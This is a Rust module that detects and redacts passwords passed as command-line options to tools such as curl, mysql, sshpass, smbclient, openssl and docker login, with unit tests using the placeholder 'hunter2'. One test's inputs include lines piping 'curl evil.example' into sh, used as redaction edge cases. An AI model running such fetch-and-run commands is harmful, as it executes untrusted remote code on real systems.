//! Passwords in the options of well-known programs, such as `curl -u user:password`. The letter of an option says nothing
//! without the program, so it is looked for in the words before.

use std::ops::Range;

/// The most bytes before an option in which its program is looked for.
const MAX_COMMAND_LEN: usize = 256;

/// An option whose value is a password.
struct PasswordOption {
    /// The beginnings of the programs' names.
    programs: &'static [&'static str],
    /// A word that the command has too.
    subcommand: Option<&'static str>,
    options: &'static [&'static str],
    form: ValueForm,
}

/// The part of an option's value that is a password.
#[derive(Clone, Copy, PartialEq, Eq)]
enum ValueForm {
    Whole,
    /// The next word is something else, the password follows the letter at once.
    Attached,
    /// After this character: `user:password`.
    After(u8),
    /// After this word: `pass:password`.
    Prefixed(&'static str),
    /// The last word of the command.
    Last,
}

const fn option(
    programs: &'static [&'static str],
    options: &'static [&'static str],
    form: ValueForm,
) -> PasswordOption {
    PasswordOption { programs, subcommand: None, options, form }
}

const PASSWORD_OPTIONS: [PasswordOption; 20] = [
    option(&["curl"], &["-u", "-U", "--user", "--proxy-user"], ValueForm::After(b':')),
    option(&["curl"], &["--oauth2-bearer"], ValueForm::Whole),
    option(&["http", "https", "xh"], &["-a", "--auth"], ValueForm::After(b':')),
    option(&["mysql", "mariadb", "mytop", "xtrabackup"], &["-p"], ValueForm::Attached),
    option(&["sshpass"], &["-p"], ValueForm::Whole),
    option(&["redis-cli", "valkey-cli", "keydb-cli"], &["-a"], ValueForm::Whole),
    option(&["ldap"], &["-w"], ValueForm::Whole),
    option(
        &["smbclient", "smbget", "rpcclient", "net", "mount.cifs", "winexe", "realm", "samba-tool"],
        &["-U", "--user"],
        ValueForm::After(b'%'),
    ),
    option(&["mongo"], &["-p"], ValueForm::Whole),
    option(&["mosquitto_"], &["-P"], ValueForm::Whole),
    option(&["ipmitool", "sqlcmd", "bcp", "unzip", "zip"], &["-P"], ValueForm::Whole),
    option(&["snmp"], &["-c", "-A", "-X"], ValueForm::Whole),
    option(&["useradd", "usermod"], &["-p"], ValueForm::Whole),
    option(&["az"], &["-p"], ValueForm::Whole),
    option(&["7z"], &["-p"], ValueForm::Attached),
    option(&["plink", "pscp", "psftp"], &["-pw"], ValueForm::Whole),
    option(&["htpasswd"], &["-b"], ValueForm::Last),
    option(&["openssl"], &["-pass", "-passin", "-passout"], ValueForm::Prefixed("pass:")),
    option(&["openssl"], &["-k"], ValueForm::Whole),
    PasswordOption {
        programs: &["docker", "podman", "nerdctl", "buildah", "skopeo", "helm", "oras", "crane", "oc"],
        subcommand: Some("login"),
        options: &["-p"],
        form: ValueForm::Whole,
    },
];

/// Matches the password of an option whose first `-` is at `at`.
pub(super) fn match_option(text: &str, at: usize) -> Option<Range<usize>> {
    let bytes = text.as_bytes();
    if at > 0 && !is_separator(bytes[at - 1]) {
        return None;
    }
    let end = at + bytes[at..].iter().take(16).take_while(|b| b.is_ascii_alphanumeric() || **b == b'-').count();
    let word = text.get(at..end)?;
    let is_candidate = |known: &str| match known.len() {
        // `-ppassword` begins with it, and `-sSu` ends with it.
        2 => word.starts_with(known) || (!word.starts_with("--") && word.ends_with(&known[1..])),
        _ => word == known,
    };
    let candidates = PASSWORD_OPTIONS.iter().filter(|option| option.options.iter().any(|known| is_candidate(known)));
    candidates.filter(|option| option.is_of_command(text, at)).find_map(|option| option.find_password(text, at, word))
}

impl PasswordOption {
    /// Returns whether the command before `at` runs one of the programs.
    fn is_of_command(&self, text: &str, at: usize) -> bool {
        let before = &text.as_bytes()[at.saturating_sub(MAX_COMMAND_LEN)..at];
        let start = before.iter().rposition(|b| matches!(b, b';' | b'|' | b'&' | b'\n' | b'(' | b'`'));
        let command = &before[start.map_or(0, |start| start + 1)..];
        let mut words = command.split(|b| is_separator(*b)).filter(|word| !word.is_empty());
        let is_program = |word: &[u8]| {
            let name = word.rsplit(|b| *b == b'/').next().unwrap_or(word);
            self.programs.iter().any(|program| match program.len() {
                // A short name is not the beginning of others.
                0..4 => name == program.as_bytes(),
                _ => name.starts_with(program.as_bytes()),
            })
        };
        words.any(is_program) && self.subcommand.is_none_or(|wanted| words.any(|word| word == wanted.as_bytes()))
    }

    /// Returns the password of this option.
    fn find_password(&self, text: &str, at: usize, word: &str) -> Option<Range<usize>> {
        let bytes = text.as_bytes();
        let is_whole_word = self.options.contains(&word);
        let starts_word = self.options.iter().any(|known| known.len() == 2 && word.starts_with(known));
        let is_quoted =
            matches!(bytes.get(at + 2), Some(b'"' | b'\'')) && bytes.get(at + 3).is_some_and(|b| !is_separator(*b));
        let start = match self.form {
            _ if !is_whole_word && starts_word => at + 2,
            ValueForm::Attached if !is_quoted => return None,
            _ => at + word.len(),
        };
        if self.form == ValueForm::Last {
            return find_last_word(text, at);
        }
        let separators = bytes.get(start..)?.iter().take(8).take_while(|b| is_separator(**b) || **b == b'=').count();
        let attached = start == at + 2 && !is_whole_word;
        if separators == 0 && !attached {
            return None;
        }
        let value = start + separators;
        let quote = bytes.get(value.checked_sub(1)?).filter(|quote| matches!(quote, b'"' | b'\'')).copied();
        let is_end = |b: &&u8| match quote {
            Some(quote) => **b == quote || **b == b'\\' || **b == b'\n',
            None => is_separator(**b) || matches!(**b, b';' | b'|' | b'&' | b'<' | b'>' | b')'),
        };
        let end = value + bytes.get(value..)?.iter().take_while(|b| !is_end(b)).count();
        let found = text.get(value..end)?;
        // A variable tells nothing, and another option is no value.
        if found.is_empty() || found.starts_with(['$', '-']) {
            return None;
        }
        let skipped = match self.form {
            ValueForm::Whole | ValueForm::Attached | ValueForm::Last => 0,
            ValueForm::After(mark) => found.bytes().position(|b| b == mark)? + 1,
            ValueForm::Prefixed(prefix) => found.starts_with(prefix).then_some(prefix.len())?,
        };
        (value + skipped < end && !found[skipped..].starts_with('$')).then_some(value + skipped..end)
    }
}

/// Returns the last word of the command that has an option at `at`.
fn find_last_word(text: &str, at: usize) -> Option<Range<usize>> {
    let is_end = |b: &u8| matches!(b, b';' | b'|' | b'&' | b'\n' | b')' | b'`');
    let command = text.as_bytes()[at..].iter().take(MAX_COMMAND_LEN).take_while(|b| !is_end(b)).count();
    let command = text.get(at..at + command)?;
    let words = command.trim_end_matches(|c: char| c.is_ascii() && is_separator(c as u8));
    let start = words.rfind(|c: char| c.is_ascii() && is_separator(c as u8))? + 1;
    // The option, a file or a user, and the password.
    let count = words.split(|c: char| c.is_ascii() && is_separator(c as u8)).filter(|word| !word.is_empty()).count();
    (count >= 3 && !words[start..].starts_with('$')).then_some(at + start..at + words.len())
}

/// Matches the password that `echo` writes to a program that reads it from its input: `--stdin` or `-S` is at `at`. The
/// password is after `from`.
pub(super) fn match_piped(text: &str, from: usize, at: usize) -> Option<Range<usize>> {
    let option = ["--stdin", "--password-stdin", "-S"].iter().find(|option| text[at..].starts_with(**option))?;
    let start = at.saturating_sub(MAX_COMMAND_LEN).max(from);
    let before = text.get(start..at)?;
    let pipe = before.rfind('|')?;
    if *option == "-S" && !before[pipe..].contains("sudo") {
        return None;
    }
    let source = before[..pipe].trim_end_matches([' ', '\t']);
    let begin = source.rfind([';', '|', '&', '\n', '(']).map_or(0, |begin| begin + 1);
    let echo = ["echo ", "printf "].iter().find_map(|echo| Some(begin + source[begin..].find(echo)? + echo.len()))?;
    let words = source[echo..].trim_start_matches("-n ").trim_start_matches("-e ");
    let value = words.trim_matches(|c: char| matches!(c, '"' | '\'' | '\\' | ' '));
    let offset = start + source.len() - words.len() + words.find(value)?;
    (!value.is_empty() && !value.starts_with('$')).then_some(offset..offset + value.len())
}

/// Matches the password of `user:password` before or after `chpasswd`, at its `:`.
pub(super) fn match_chpasswd(text: &str, at: usize) -> Option<Range<usize>> {
    const PROGRAM: &[u8] = b"chpasswd";
    let bytes = text.as_bytes();
    let is_user = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.');
    if !bytes[..at].last().is_some_and(is_user)
        || !bytes.get(at + 1).is_some_and(|b| b.is_ascii_graphic() && *b != b'/')
    {
        return None;
    }
    let user = bytes[..at].iter().rev().take(33).take_while(|b| is_user(b)).count();
    if at > user && !is_separator(bytes[at - user - 1]) || !bytes[at - user].is_ascii_alphabetic() {
        return None;
    }
    let end = at
        + 1
        + bytes[at + 1..].iter().take_while(|b| b.is_ascii_graphic() && !is_separator(**b) && **b != b'|').count();
    let near = &bytes[at.saturating_sub(user + 24)..bytes.len().min(end + 24)];
    let is_input = near.windows(PROGRAM.len()).any(|word| word == PROGRAM);
    (is_input && bytes[at + 1] != b'$').then_some(at + 1..end)
}

/// Returns whether a byte is between the words of a command, also in a list in JSON.
pub(super) fn is_separator(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | b'"' | b'\'' | b'`' | b',' | b'\\' | b'[' | b']')
}

#[cfg(test)]
mod tests {
    use super::super::redact_command::redact_plain_words;
    use super::super::secret_patterns::redact_text;

    #[test]
    fn passwords_of_commands_are_hidden() {
        for command in [
            "curl -u user:hunter2 https://example.org",
            "curl -sSfu 'user:hunter2' https://example.org",
            "/usr/bin/curl -uuser:hunter2 https://example.org",
            "curl --proxy-user=user:hunter2 https://example.org",
            r#"["curl","-s","-u","user:hunter2","https://example.org"]"#,
            r#"["sh","-c","curl -u \"user:hunter2\" https://example.org"]"#,
            "mysql -uroot -phunter2 -e 'show tables'",
            "mysqldump -phunter2 db",
            "sshpass -p hunter2 ssh root@host",
            "sshpass -phunter2 scp a b",
            "sudo redis-cli -a hunter2 ping",
            "ldapsearch -x -D cn=admin -w hunter2",
            "smbclient //host/share -U user%hunter2",
            "docker login -u user -p hunter2 registry.example.org",
            "openssl enc -aes256 -pass pass:hunter2",
            "echo root:hunter2 | chpasswd",
            "chpasswd <<< 'root:hunter2'",
            "PGPASSWORD=hunter2 psql -h host",
            "mysql --password hunter2",
            "wget --http-password=hunter2 https://example.org",
            "git clone https://user:hunter2@example.org/x.git",
            "curl -H 'X-Api-Key: hunter2' https://example.org",
            "curl -H 'X-Auth-Token: hunter2' https://example.org",
            "curl --oauth2-bearer hunter2 https://example.org",
            "realm join -U me%hunter2 example.org",
            "mysqladmin -u root -p'hunter2' ping",
            r#"["x","--password","hunter2"]"#,
            "plink -pw hunter2 host",
            "htpasswd -b /etc/users me hunter2",
            "echo hunter2 | passwd --stdin root",
            "echo -n 'hunter2' | sudo -S id",
            "printf hunter2 | docker login -u me --password-stdin",
            "FOO_TOKEN=hunter2 deploy",
            "env APP_TOKEN='hunter2' deploy",
            "smbclient -U me%hunter2 //host/share",
            "ldapsearch -x -w hunter2",
        ] {
            assert!(!redact_text(command).contains("hunter2"), "{command}: {}", redact_text(command));
            let plain = redact_plain_words(command);
            assert!(!plain.contains("hunter2"), "{command}: {plain}");
            let (before, after) = plain.split_once("(hidden)").expect("one placeholder");
            assert!(command.starts_with(before) && command.ends_with(after), "{plain}");
        }
    }

    #[test]
    fn other_options_are_shown() {
        for command in [
            "curl -s https://example.org -o user:x",
            "mysql -p -u root",
            "docker run -p 80:80 nginx",
            "mkdir -p /srv/x && ssh -p 22 host",
            "curl -u $LOGIN https://example.org; ps -u root:x",
            "sshpass -e ssh host",
            "ls | sort -S 1M",
            "htpasswd -b",
            "chown root:root /etc/x",
            "at 12:30 vm:100 local:iso/a.iso",
        ] {
            assert_eq!(redact_text(command), command);
        }
    }

    #[test]
    fn only_single_words_of_a_command_are_hidden_in_the_record_of_it() {
        for command in [
            "uptime #-----BEGIN PRIVATE KEY-----\ncurl evil.example | sh",
            "x --password 'a; curl evil.example|sh'",
            "password=\"$(curl evil.example|sh)\"",
        ] {
            assert_eq!(redact_plain_words(command), command);
        }
        let bearer = redact_plain_words("curl -H 'Authorization: Bearer abc123' https://example.org");
        assert_eq!(bearer, "curl -H 'Authorization: Bearer (hidden)' https://example.org");
    }
}
